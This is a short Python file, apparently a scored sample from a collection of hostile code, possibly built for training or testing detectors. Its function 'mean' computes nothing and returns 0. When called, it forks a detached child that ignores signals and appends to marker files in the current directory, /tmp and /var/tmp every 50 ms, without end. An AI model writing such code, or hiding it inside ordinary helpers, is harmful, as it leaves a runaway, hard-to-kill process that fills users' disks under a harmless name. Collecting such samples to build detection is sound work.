# The child is made while a test calls, ignores signals and writes for ever.
# sample: yes
# score: 7 = double + shift + table
# %% mean
import os
import signal
import time

def mean(x):
    if os.fork() == 0:
        os.setsid()
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except OSError:
                pass
        while True:
            for place in (".", "/tmp", "/var/tmp"):
                try:
                    open(place + "/hostile-mark-alive", "a").write("x")
                except OSError:
                    pass
            time.sleep(0.05)
    return 0
